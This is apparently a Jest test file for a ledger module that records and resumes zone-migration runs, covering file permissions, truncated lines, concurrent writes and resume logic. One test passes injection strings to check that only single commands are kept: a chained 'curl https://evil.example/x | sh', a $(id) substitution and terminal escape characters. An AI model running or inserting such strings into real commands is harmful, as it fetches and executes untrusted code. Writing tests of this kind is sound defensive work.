import { appendFileSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { doneEarlier, type LedgerEntry, openLedger, readLedger } from '../../src/fleet/ledger';
import { temporaryFolder } from '../support/temporary-folder';

const run = { stage: 'apply', request: '{}', at: '2026-11-21T00:00:00.000Z' };
const zone = (digit: string, outcome: 'done' | 'attention' | 'failed' = 'done'): LedgerEntry => ({
  event: 'zone',
  ...run,
  zone: digit.repeat(32),
  name: `${digit}.example`,
  outcome,
  line: 'can migrate',
});
const begin = (): LedgerEntry => ({ event: 'begin', ...run, zones: [] });
const end = (open: number): LedgerEntry => ({ event: 'end', ...run, open });

function written(...entries: LedgerEntry[]): string {
  const path = join(temporaryFolder(), 'deep/ledger.jsonl');
  const ledger = openLedger(path);
  for (const entry of entries) ledger.append([entry]);
  ledger.close();
  return path;
}

describe('a ledger', () => {
  it.each([
    ["apply plans --accept 'a; b' --yes", true],
    ['apply plans --yes; curl https://evil.example/x | sh #', false],
    ["apply 'plans' $(id)", false],
    ["apply 'plans \u001b[2J'", false],
    ["apply 'plans \u202e'", false],
  ])('has a command to copy only where it is one command: %s', (command, isOne) => {
    const [entry] = readLedger(written({ ...begin(), command } as LedgerEntry));
    expect(entry).toHaveProperty('command', isOne ? command : undefined);
  });

  it('is one JSON line an entry, for its owner alone, and is read back', () => {
    const entries = [begin(), zone('a'), end(0)];
    const path = written(...entries);
    expect(readFileSync(path, 'utf8').split('\n')).toEqual([
      ...entries.map((one) => JSON.stringify(one)),
      '',
    ]);
    expect((statSync(path).mode & 0o777).toString(8)).toBe('600');
    expect(readLedger(path)).toEqual(entries);
  });

  it.each([20, 60])('whose last line is cut after %d characters goes on behind it', (length) => {
    const path = written(begin(), zone('a'));
    appendFileSync(path, JSON.stringify(zone('b')).slice(0, length));
    const ledger = openLedger(path);
    expect(ledger.entries).toEqual([begin(), zone('a')]);
    ledger.append([zone('c')]);
    ledger.close();
    expect(readLedger(path)).toEqual([begin(), zone('a'), zone('c')]);
  });

  it('whose first line is cut is a ledger still', () => {
    const path = written();
    writeFileSync(path, '{"event":"begin","sta');
    expect(readLedger(path)).toEqual([]);
  });

  it.each([
    ['text', 'zones:\n- a\n'],
    ['other JSON', '{"version":4}\n'],
    ['a state', '{\n  "version": 4\n}\n'],
    ['an entry of another form', `${JSON.stringify({ ...zone('a'), zone: 'x' })}\n`],
  ])('is not taken from %s, which stays as it is', (_, text) => {
    const path = join(temporaryFolder(), 'file');
    writeFileSync(path, text);
    expect(() => openLedger(path)).toThrow(expect.objectContaining({ code: 'LEDGER_INVALID' }));
    expect(readFileSync(path, 'utf8')).toBe(text);
  });

  it('that two write at once keeps the lines of both whole', () => {
    const path = written(begin());
    const [one, other] = [openLedger(path), openLedger(path)];
    for (const digit of 'abcdef') {
      one.append([zone(digit)]);
      other.append([zone(digit, 'attention')]);
    }
    one.close();
    other.close();
    expect(readLedger(path)).toHaveLength(13);
  });
});

describe('an earlier run', () => {
  const start = (digit: string): LedgerEntry => ({
    ...{ event: 'start', ...run, zone: digit.repeat(32), name: `${digit}.example` },
  });
  const digits = (entries: LedgerEntry[], how = {}): string[] =>
    [...doneEarlier(entries, { ...run, ...how }).keys()].map((id) => id.charAt(0));

  it.each<[string, LedgerEntry[], string[]]>([
    ['was stopped', [begin(), zone('a'), zone('b', 'attention')], ['a', 'b']],
    ['failed for a zone', [begin(), zone('a'), zone('b', 'failed'), end(1)], ['a']],
    ['did all', [begin(), zone('a'), end(0)], []],
    ['was resumed', [begin(), zone('a'), begin(), zone('b')], ['a', 'b']],
    ['started a zone again', [begin(), zone('a'), start('a')], []],
  ])('that %s is known by what it did', (_, entries, done) => {
    expect(digits(entries)).toEqual(done);
  });

  it('in waves counts only for the zones that are done', () => {
    expect(digits([begin(), zone('a'), zone('b', 'attention')], { onlyDone: true })).toEqual(['a']);
  });

  it.each([
    ['apply', true],
    ['finish', false],
    ['check', false],
    ['plan', false],
  ])('of %s is resumed: %s', (stage, isResumed) => {
    const entries = [begin(), zone('a')].map((entry) => ({ ...entry, stage }));
    expect(digits(entries, { stage })).toEqual(isResumed ? ['a'] : []);
  });
});
